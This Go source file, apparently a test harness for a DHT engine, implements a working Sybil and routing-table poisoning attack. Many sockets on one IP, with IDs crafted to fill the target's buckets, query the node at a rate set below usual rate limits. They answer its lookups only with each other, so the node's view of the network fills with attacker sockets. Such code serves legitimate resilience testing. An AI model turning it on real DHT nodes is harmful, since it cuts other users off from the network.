package hostile

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"github.com/swarmdrop/swarmdrop/engine/dht/krpc"
)

// Poisoner tries to own a DHT node's routing table from one IP address:
// Ports UDP sockets, each claiming its own node ID, query the target at
// Rate (so that it verifies them with a ping, which they answer) and
// answer every query the target sends them like well-behaved nodes, with
// contacts that are all more of the Poisoner's sockets. The IDs are
// random, or, with Crafted, made for the target's buckets: eight sharing
// no leading bit with the target's ID, eight sharing exactly one, and so
// on, as many as a table that splits where its own ID falls could hold.
//
// Socket 0 keeps a random ID; give its address (Addr) to the target as a
// bootstrap contact to let its lookups in too. Only packets from Target
// are answered. Build with Listen, run with Run (again and again: the
// sockets and their IDs stay), end with Close; the counters are safe for
// concurrent use.
type Poisoner struct {
	Target  netip.AddrPort
	IP      netip.Addr
	Ports   int
	Crafted bool
	// Rate is the queries per second sent to the target (default 8, under
	// a usual limit of 10 per address); MaxQueries bounds them (default
	// 4 per socket).
	Rate       float64
	MaxQueries int

	conns  []*net.UDPConn
	cursor int // the next query's number, over all runs; used by Run only

	mu     sync.Mutex // guards victim, known and ids
	victim krpc.ID    // the target's node ID, once known
	known  bool
	ids    []krpc.ID // the ID of each socket; zero until assigned

	sent, repliesIn, queriesIn, answered atomic.Int64
}

// PoisonStats counts a Poisoner's exchanges with its target.
type PoisonStats struct {
	QueriesSent    int64 // our queries to the target
	RepliesIn      int64 // its replies to them
	QueriesIn      int64 // its queries to our sockets (verification pings, lookups)
	Answered       int64 // our replies to those
	TargetIDKnown  bool
	SocketsWithIDs int
}

// Listen opens the sockets on IP (any free ports).
func (p *Poisoner) Listen() error {
	if p.Ports < 1 {
		return errors.New("hostile: Poisoner needs at least one port")
	}
	p.ids = make([]krpc.ID, p.Ports)
	for i := range p.Ports {
		c, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(p.IP, 0)))
		if err != nil {
			p.Close()
			return fmt.Errorf("poisoner socket %d: %w", i, err)
		}
		p.conns = append(p.conns, c)
	}
	p.ids[0] = randomID()
	if !p.Crafted {
		for i := 1; i < p.Ports; i++ {
			p.ids[i] = randomID()
		}
	}
	return nil
}

// Addr returns the address of socket 0 (valid after Listen).
func (p *Poisoner) Addr() netip.AddrPort {
	return p.conns[0].LocalAddr().(*net.UDPAddr).AddrPort()
}

// Stats returns the counters so far.
func (p *Poisoner) Stats() PoisonStats {
	p.mu.Lock()
	known, n := p.known, 0
	for _, id := range p.ids {
		if id != (krpc.ID{}) {
			n++
		}
	}
	p.mu.Unlock()
	return PoisonStats{QueriesSent: p.sent.Load(), RepliesIn: p.repliesIn.Load(), QueriesIn: p.queriesIn.Load(),
		Answered: p.answered.Load(), TargetIDKnown: known, SocketsWithIDs: n}
}

// Run serves the sockets and sends up to MaxQueries queries until ctx
// ends. Between runs, the sockets stay open but unanswered.
func (p *Poisoner) Run(ctx context.Context) {
	for _, c := range p.conns {
		c.SetReadDeadline(time.Time{})
	}
	stop := context.AfterFunc(ctx, func() {
		for _, c := range p.conns {
			c.SetReadDeadline(time.Unix(1, 0)) // wakes the readers
		}
	})
	defer stop()
	var wg sync.WaitGroup
	for i, c := range p.conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			p.serve(ctx, i, c)
		}()
	}
	p.query(ctx)
	<-ctx.Done()
	wg.Wait()
}

// Close closes the sockets.
func (p *Poisoner) Close() {
	for _, c := range p.conns {
		c.Close()
	}
}

// query sends find_node queries (for the target's own ID once known) from
// the sockets in turn, at Rate, up to MaxQueries.
func (p *Poisoner) query(ctx context.Context) {
	rate := p.Rate
	if rate <= 0 {
		rate = 8
	}
	maxQ := p.MaxQueries
	if maxQ <= 0 {
		maxQ = 4 * p.Ports
	}
	tick := time.NewTicker(time.Duration(float64(time.Second) / rate))
	defer tick.Stop()
	var tid uint16
	for range maxQ {
		i := p.cursor
		p.cursor++
		// Socket 0 asks until the target's ID is known; then the others
		// in turn (their crafted IDs need it).
		k := 0
		p.mu.Lock()
		if p.known && p.Ports > 1 {
			k = 1 + i%(p.Ports-1)
		}
		id, target := p.ids[k], p.victim
		p.mu.Unlock()
		if target == (krpc.ID{}) {
			target = randomID()
		}
		tid++
		q := krpc.Msg{T: []byte{byte(tid >> 8), byte(tid)}, Y: krpc.KindQuery, Q: krpc.MethodFindNode,
			A: krpc.Args{ID: id, Target: target}}
		if _, err := p.conns[k].WriteToUDPAddrPort(q.Encode(), p.Target); err == nil {
			p.sent.Add(1)
		}
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
	}
}

// serve reads socket i until ctx ends or the socket fails, answering
// the target.
func (p *Poisoner) serve(ctx context.Context, i int, c *net.UDPConn) {
	buf := make([]byte, 4096)
	for {
		n, from, err := c.ReadFromUDPAddrPort(buf)
		if ctx.Err() != nil {
			return
		}
		if err != nil {
			if isTimeout(err) {
				continue // a stale deadline of the previous run's end
			}
			return
		}
		from = netip.AddrPortFrom(from.Addr().Unmap(), from.Port())
		if from != p.Target {
			continue
		}
		m, err := krpc.Decode(buf[:n])
		if err != nil {
			continue
		}
		switch m.Y {
		case krpc.KindResponse:
			p.repliesIn.Add(1)
			p.learn(m.R.ID)
		case krpc.KindQuery:
			p.queriesIn.Add(1)
			p.learn(m.A.ID)
			if r, ok := p.reply(i, m); ok {
				if _, err := c.WriteToUDPAddrPort(r.Encode(), from); err == nil {
					p.answered.Add(1)
				}
			}
		}
	}
}

// learn records the target's ID and, with Crafted, assigns the IDs made
// for its buckets.
func (p *Poisoner) learn(id krpc.ID) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.known || id == (krpc.ID{}) {
		return
	}
	p.victim, p.known = id, true
	if p.Crafted {
		for i := 1; i < p.Ports; i++ {
			p.ids[i] = idForBucket(id, (i-1)/8%160)
		}
	}
}

// reply is socket i's answer to the target's query m; false when it has
// no ID yet.
func (p *Poisoner) reply(i int, m krpc.Msg) (krpc.Msg, bool) {
	p.mu.Lock()
	defer p.mu.Unlock()
	id := p.ids[i]
	if id == (krpc.ID{}) {
		return krpc.Msg{}, false
	}
	r := krpc.Msg{T: m.T, Y: krpc.KindResponse, R: krpc.Reply{ID: id}}
	switch m.Q {
	case krpc.MethodPing, krpc.MethodAnnouncePeer:
	case krpc.MethodFindNode:
		r.R.Nodes = p.closestLocked(m.A.Target, 8)
	case krpc.MethodGetPeers:
		r.R.Nodes = p.closestLocked(m.A.InfoHash, 8)
		r.R.Token = []byte("poison")
	default:
		r = krpc.Msg{T: m.T, Y: krpc.KindError, E: krpc.Error{Code: krpc.CodeMethodUnknown, Msg: "unknown"}}
	}
	return r, true
}

// closestLocked returns up to k of our sockets closest to target (p.mu
// held).
func (p *Poisoner) closestLocked(target krpc.ID, k int) []krpc.NodeInfo {
	var out []krpc.NodeInfo
	for i, id := range p.ids {
		if id != (krpc.ID{}) {
			out = append(out, krpc.NodeInfo{ID: id, Addr: p.conns[i].LocalAddr().(*net.UDPAddr).AddrPort()})
		}
	}
	slices.SortFunc(out, func(a, b krpc.NodeInfo) int { return cmpDistance(a.ID, b.ID, target) })
	return out[:min(k, len(out))]
}

// cmpDistance compares the XOR distances of a and b to target.
func cmpDistance(a, b, target krpc.ID) int {
	for i := range a {
		x, y := a[i]^target[i], b[i]^target[i]
		if x != y {
			return int(x) - int(y)
		}
	}
	return 0
}

// idForBucket returns a random ID that shares exactly depth leading bits
// with self: it falls in self's bucket number depth of a table split down
// to it.
func idForBucket(self krpc.ID, depth int) krpc.ID {
	id := randomID()
	for b := 0; b <= depth; b++ {
		mask := byte(0x80 >> (b % 8))
		v := self[b/8] & mask
		if b == depth {
			v ^= mask
		}
		id[b/8] = id[b/8]&^mask | v
	}
	return id
}

// CommonPrefix returns how many leading bits a and b share.
func CommonPrefix(a, b krpc.ID) int {
	for i := range a {
		if x := a[i] ^ b[i]; x != 0 {
			n := 0
			for x&0x80 == 0 {
				x <<= 1
				n++
			}
			return i*8 + n
		}
	}
	return 160
}

func randomID() krpc.ID {
	var id krpc.ID
	rand.Read(id[:])
	return id
}
